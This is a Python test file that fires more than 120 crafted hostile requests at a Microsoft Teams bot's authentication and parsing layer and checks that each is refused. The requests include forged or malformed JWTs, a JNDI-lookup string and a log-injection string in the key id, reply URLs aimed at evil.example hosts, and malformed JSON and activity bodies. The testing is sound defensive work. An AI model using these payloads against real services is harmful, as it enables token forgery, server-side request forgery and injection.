"""More hostile requests by hand, of other kinds: the edges of a token, of JSON and of an activity."""

from __future__ import annotations

import json
import time
from http import HTTPStatus

import jwt
import pytest
from structlog.testing import capture_logs

from tests.teams.fakes import APP, TENANT, fake_microsoft, published, rsa_key, signed, world
from tests.teams.test_teams_hostile import Attack, changed, claims, raw, segments, send, weird, with_claims

HOST = "https://smba.trafficmanager.net"


def ago(seconds: float) -> int:
    return int(time.time() - seconds)


def proven(**changes):
    """A token of ours with claims that PyJWT would not sign."""
    key, head = rsa_key("key-1"), {"kid": "key-1"}
    return lambda url: jwt.api_jws.encode(
        json.dumps(claims(url, **changes)).encode(), key, algorithm="RS256", headers=head
    )


def detached(url: str) -> str:
    """The payload left out of the token, as RFC 7797 allows: nothing would be proven."""
    head = {"alg": "RS256", "kid": "key-1", "b64": False, "crit": ["b64"]}
    return jwt.encode(claims(url), rsa_key("key-1"), algorithm="RS256", headers=head)


def twice(first: str, second: str) -> bytes:
    """A header in which the algorithm stands twice: who reads the first and who the last disagree."""
    return f'{{"alg":"{first}","kid":"key-1","alg":"{second}"}}'.encode()


def padded(url: str) -> str:
    return ".".join(part + "==" for part in signed(url).split("."))


TOKENS = [
    Attack("algorithm twice, none last", 401, "algorithm", token=weird(twice("RS256", "none"))),
    Attack("algorithm twice, none first", 401, "signature", token=weird(twice("none", "RS256"))),
    Attack("algorithm with a blank", 401, "algorithm", token=weird({"alg": "RS256 ", "kid": "key-1"})),
    Attack("algorithm with NUL", 401, "algorithm", token=weird({"alg": "RS256\0", "kid": "key-1"})),
    Attack("algorithm true", 401, "algorithm", token=weird({"alg": True, "kid": "key-1"})),
    Attack("algorithm in capitals elsewhere", 401, "algorithm", token=weird({"ALG": "RS256", "kid": "key-1"})),
    Attack("algorithm dir", 401, "algorithm", token=weird({"alg": "dir", "enc": "A256GCM", "kid": "key-1"})),
    Attack("algorithm RSA1_5", 401, "algorithm", token=weird({"alg": "RSA1_5", "kid": "key-1"})),
    Attack("five parts, as encrypted", 401, "no_token", token=lambda url: signed(url) + ".eA.eA"),
    Attack("padded segments", 401, "no_token", token=padded),
    Attack("header half an emoji", 401, "unknown_key", token=weird(b'{"alg":"RS256","kid":"\\ud83d"}')),
    Attack("header in UTF-16", 401, "unknown_key", token=weird('{"alg":"RS256"}'.encode("utf-16"))),
    Attack("header with NaN", 401, "unknown_key", token=weird(b'{"alg":"RS256","x":NaN,"kid":"nobody"}')),
    Attack("header a number without end", 401, "no_token", token=weird(b'{"alg":' + b"9" * 5000 + b"}")),
    Attack("kid without end", 401, "unknown_key", token=weird({"alg": "RS256", "kid": "k" * 4000})),
    Attack("kid an object", 401, "no_token", token=weird({"alg": "RS256", "kid": {"$ne": ""}})),
    Attack("kid true", 401, "no_token", token=weird({"alg": "RS256", "kid": True})),
    Attack("kid in other case", 401, "unknown_key", token=with_claims(kid="KEY-1", key="key-1")),
    Attack("kid with a blank behind", 401, "unknown_key", token=with_claims(kid="key-1 ", key="key-1")),
    Attack("kid with NUL behind", 401, "unknown_key", token=with_claims(kid="key-1\0", key="key-1")),
    Attack("kid of Python", 401, "unknown_key", token=with_claims(kid="__class__", key="key-1")),
    Attack("kid a line of the log", 401, "unknown_key", token=with_claims(kid='x\n{"event":"forged"}', key="key-1")),
    Attack("kid a template", 401, "unknown_key", token=with_claims(kid="${jndi:ldap://evil.example/a}", key="key-1")),
    Attack("payload detached", 401, "no_token", token=detached),
    Attack("signature of zeros", 401, "signature", token=lambda url: segments({"alg": "RS256", "kid": "key-1"}, claims(url), b"\0" * 256)),
    Attack("signature of ones", 401, "signature", token=lambda url: segments({"alg": "RS256", "kid": "key-1"}, claims(url), b"\xff" * 256)),
    Attack("signature too long", 401, "signature", token=lambda url: segments({"alg": "RS256", "kid": "key-1"}, claims(url), b"x" * 1024)),
    Attack("expired at the beginning of time", 401, "expired", token=with_claims(exp=0)),
    Attack("expiry negative", 401, "expired", token=with_claims(exp=-1)),
    Attack("expiry true", 401, "expired", token=with_claims(exp=True)),
    Attack("expiry an object", 401, "no_token", token=with_claims(exp={"$gt": 0})),
    Attack("valid from a word", 401, "no_token", token=with_claims(nbf="nu")),
    Attack("valid from beyond the leeway", 401, "expired", token=lambda url: signed(url, nbf=ago(-320))),
    Attack("issued a list", 401, "expired", token=with_claims(iat=[1])),
    Attack("issued beyond the leeway", 401, "expired", token=lambda url: signed(url, iat=ago(-320))),
    Attack("issuer a list with the right one", 401, "issuer", token=proven(iss=["https://api.botframework.com"])),
    Attack("issuer in capitals", 401, "issuer", token=with_claims(iss="https://API.botframework.com")),
    Attack("issuer without encryption", 401, "issuer", token=with_claims(iss="http://api.botframework.com")),
    Attack("issuer with a blank", 401, "issuer", token=with_claims(iss="https://api.botframework.com ")),
    Attack("issuer government", 401, "issuer", token=with_claims(iss="https://api.botframework.us")),
    Attack("issuer of version 1", 401, "issuer", token=with_claims(iss=f"https://sts.windows.net/{TENANT}/")),
    Attack("another app in appid", 401, "audience", token=with_claims(aud="api://" + APP, appid=APP, azp=APP, ver="2.0")),
    Attack("audience a list with ours", 401, "audience", token=with_claims(aud=[APP])),
    Attack("audience a list of two", 401, "audience", token=with_claims(aud=["other", APP])),
    Attack("audience an object", 401, "audience", token=with_claims(aud={APP: 1})),
    Attack("audience a number", 401, "audience", token=with_claims(aud=1)),
    Attack("audience with a blank", 401, "audience", token=with_claims(aud=APP + " ")),
    Attack("subject a list", 401, "no_token", token=with_claims(sub=["x"])),
    Attack("claim in capitals", 401, "token_address", token=lambda url: signed(url.upper(), SERVICEURL=url)),
    Attack("claim with another port", 401, "token_address", token=lambda url: signed(url.rstrip("/") + "0/")),
    Attack("claim with a name in it", 401, "token_address", token=lambda url: signed(url.replace("//", "//x@"))),
    Attack("claim with a path more", 401, "token_address", token=lambda url: signed(url + "emea/")),
    Attack("claim with a dot behind the host", 401, "token_address", token=lambda url: signed(url.replace("127.0.0.1", "127.0.0.1."))),
    Attack("claim with a blank", 401, "token_address", token=lambda url: signed(url + " ")),
    Attack("claim true", 401, "token_address", token=with_claims(serviceurl=True)),
    Attack("claim under another name", 401, "token_address", token=lambda url: proven(serviceurl=None, service_url=url)(url)),
]  # fmt: skip

ADDRESSES = [
    Attack(f"reply to {url}", 403, "address", token=with_claims(serviceurl=url), body=changed(serviceUrl=url))
    for url in (
        f"{HOST}:0/", f"{HOST}:80/", f"{HOST}:00443443/", f"{HOST};@evil.example/", f"{HOST}%00.evil.example/", f"{HOST}%2f@evil.example/",
        f"{HOST}/;x\\..", "https://xn--mba-2za.trafficmanager.net/", "https://smba.trafficmanager.net\u3002evil.nl/",
        "https://smba.trafficmanager.net\uff0fevil.nl/", "https://0x7f000001/", "https://2130706433/", "https://[::ffff:127.0.0.1]/",
        "https://evil-smba.trafficmanager.net/", "https://trafficmanager.net/", "https://smba..trafficmanager.net/",
        "wss://smba.trafficmanager.net/", "HTTPS:smba.trafficmanager.net", "https:///smba.trafficmanager.net", "blob:" + HOST,
        "urn:botframework:websocket:x", f"{HOST}/emea/../../x", "http://[::1]:1/", "https://smba.trafficmanager.net:443@evil.nl/",
    )
]  # fmt: skip

BODIES = [
    Attack(f"json {name}", 400, "json", body=raw(data))
    for name, data in (
        ("in UTF-16", '{"type":"message"}'.encode("utf-16")),
        ("in UTF-32", '{"type":"message"}'.encode("utf-32")),
        ("with its mark of order behind", b'{"type":"message"}\xef\xbb\xbf'),
        ("minus without end", b'{"a":-' + b"1" * 5000 + b"}"),
        ("nested 2,000 deep", b'{"a":' * 2000 + b"1" + b"}" * 2000),
        ("lists nested in turn", b'[{"a":' * 30_000),
        ("NaN inside", b'{"value":{"a":[NaN]}}'),
        ("a comment", b'{"type":"message" /* x */}'),
        ("unquoted", b"{type:1}"),
        ("two objects", b'{"type":"a"}\n{"type":"b"}'),
        ("control character in a name", b'{"a\x01":1}'),
        ("cut in a sign", '{"text":"é'.encode()[:-1]),
        ("overlong UTF-8", b'{"text":"\xc0\xaf"}'),
        ("beyond Unicode", b'{"text":"\xf4\x90\x80\x80"}'),
    )
]

ACTIVITIES = [
    Attack(f"activity: {name}", status, reason, body=change)
    for name, status, reason, change in (
        ("type twice, the last wins", 400, "activity", raw(b'{"type":"message","type":5}')),
        ("conversation a list of ids", 400, "activity", changed(conversation={"id": ["a", "b"], "tenantId": TENANT})),
        ("conversation id with a tab", 400, "activity", changed(conversation={"id": "a\tb", "tenantId": TENANT})),
        ("conversation id dots only", 400, "activity", changed(conversation={"id": "....", "tenantId": TENANT})),
        ("conversation id without end", 400, "activity", changed(conversation={"id": "a" * 2000, "tenantId": TENANT})),
        ("conversation false", 400, "activity", changed(conversation=False)),
        ("sender true", 400, "activity", changed(from_=True)),
        ("sender id empty", 400, "activity", changed(from_={"id": ""})),
        ("sender id with DEL", 400, "activity", changed(from_={"id": "29:\x7f"})),
        ("an invoke of nobody", 400, "activity", changed(type="invoke", name="composeExtension/query", from_=None)),
        ("recipient a number", 400, "activity", changed(recipient=28)),
        ("recipient name a list", 400, "activity", changed(recipient={"id": "28:x", "name": ["x"]})),
        ("channel a boolean", 400, "activity", changed(channelId=True)),
        ("channel with a blank behind", 400, "activity", changed(channelId="msteams ")),
        ("channel with a line", 400, "activity", changed(channelId="msteams\n")),
        ("channel alike", 403, "channel", changed(channelId="msteаms")),
        ("channel with something behind", 403, "channel", changed(channelId="msteams:evil")),
        ("timestamp a list", 400, "activity", changed(timestamp=[])),
        ("timestamp false", 400, "activity", changed(timestamp=False)),
        ("timestamp in no zone", 400, "activity", changed(timestamp="2026-01-12T08:00:00+99:99")),
        ("expiration an object", 400, "activity", changed(expiration={})),
        ("tenant an object", 400, "activity", changed(channelData={"tenant": {"id": {"$ne": 1}}})),
        ("tenant true", 400, "activity", changed(conversation={"id": "a", "tenantId": True})),
        ("tenant with something behind", 403, "tenant", changed(conversation={"id": "a", "tenantId": TENANT + "/x"})),
        ("tenant with NUL", 403, "tenant", changed(conversation={"id": "a", "tenantId": TENANT + "\0"})),
        ("tenant of another script", 403, "tenant", changed(conversation={"id": "a", "tenantId": TENANT.replace("a", "а")})),
        ("tenant in the data and another in the talk", 403, "tenant", changed(
            conversation={"id": "a", "tenantId": "b" * 8}, channelData={"tenant": {"id": TENANT}})),
        ("tenants in a list", 403, "tenant", changed(conversation={"id": "a"}, channelData={"tenant": [{"id": TENANT}]})),
        ("tenant under another name", 403, "tenant", changed(conversation={"id": "a", "tenantid": TENANT}, channelData={"Tenant": {"id": TENANT}})),
        ("name an object", 400, "activity", changed(type="invoke", name={"x": 1})),
        ("text false", 400, "activity", changed(text=False)),
        ("action a number", 400, "activity", changed(type="installationUpdate", action=1)),
    )
]  # fmt: skip

ATTACKS = [*TOKENS, *ADDRESSES, *BODIES, *ACTIVITIES]


async def test_every_one_is_refused_at_its_stage_and_never_answered():
    assert len(ATTACKS) >= 120
    assert len({attack.name for attack in ATTACKS}) == len(ATTACKS)
    wrong = []
    async with fake_microsoft() as microsoft:
        for attack in ATTACKS:
            async with world(microsoft) as bot:
                with capture_logs() as logged:
                    status, text = await send(bot, attack)
                if [why(line) for line in logged] != [(attack.reason, attack.status, True)]:
                    wrong.append((attack.name, logged))
                seen = [reason for (_, reason), number in bot.refusals().items() if number]
                if (status, seen) != (attack.status, [attack.reason]):
                    wrong.append((attack.name, status, seen, attack.status, attack.reason))
                if text != HTTPStatus(attack.status).phrase or bot.voice.heard:
                    wrong.append((attack.name, text, bot.voice.heard))
    assert not wrong, "\n".join(map(str, wrong))
    assert microsoft.attempts == []


def why(line) -> tuple[str, int, bool]:
    """What the administrator reads of a refusal: the reason, the status, and a sentence."""
    return line["reason"], line["status"], str(line["advice"]).endswith((".", "?"))


async def test_a_fault_of_our_own_is_no_5xx_and_tells_the_caller_nothing(monkeypatch):
    async with fake_microsoft() as microsoft, world(microsoft) as bot:
        monkeypatch.setattr("bot.teams.adapter.to_activity", lambda incoming: 1 / 0)
        with capture_logs() as logged:
            assert await bot.post(bot.message("geheim")) == (400, "Bad Request")
    assert [line["event"] for line in logged] == ["fout in de voordeur", "verzoek geweigerd"]
    assert logged[0]["error"] == "ZeroDivisionError"
    assert "geheim" not in str(logged)


BORDERS = {
    "expired just within the leeway": lambda url: signed(url, exp=ago(280)),
    "valid from just within the leeway": lambda url: signed(url, nbf=ago(-280)),
    "issued just within the leeway": lambda url: signed(url, iat=ago(-280)),
    "without a moment of issue": lambda url: signed(url, iat=None, nbf=None),
    "the claim as the SDK also writes it": lambda url: signed(url, serviceurl=None, serviceUrl=url),
    "the claim without its last slash": lambda url: signed(url.rstrip("/")),
    "other claims beside": lambda url: signed(url, appid="other", azp="other", tid="other", ver="1.0", roles=["x"]),
    "a type in the header": lambda url: signed(url, headers={"typ": "at+jwt", "x5t": "key-1"}),
}  # fmt: skip


@pytest.mark.parametrize("name", BORDERS)
async def test_what_is_just_valid_is_let_in(name):
    async with fake_microsoft() as microsoft:
        microsoft.keys = [published("key-1")]
        async with world(microsoft) as bot:
            assert (await bot.post(bot.message(), BORDERS[name](microsoft.url + "/")))[0] == 200
    assert len(microsoft.replies) == 1


async def test_of_a_field_that_stands_twice_all_who_read_it_take_the_last():
    async with fake_microsoft() as microsoft, world(microsoft) as bot:
        text = json.dumps(bot.message())
        foreign = text.replace(
            '"channelData": {', '"channelData": {"tenant": {"id": "evil"}}, "channelData": {'
        )
        assert foreign != text
        assert (await bot.post(foreign.encode()))[0] == 200
        ours_first = text[:-1] + ', "channelData": {"tenant": {"id": "evil"}}}'
        assert (await bot.post(ours_first.encode()))[0] == 403
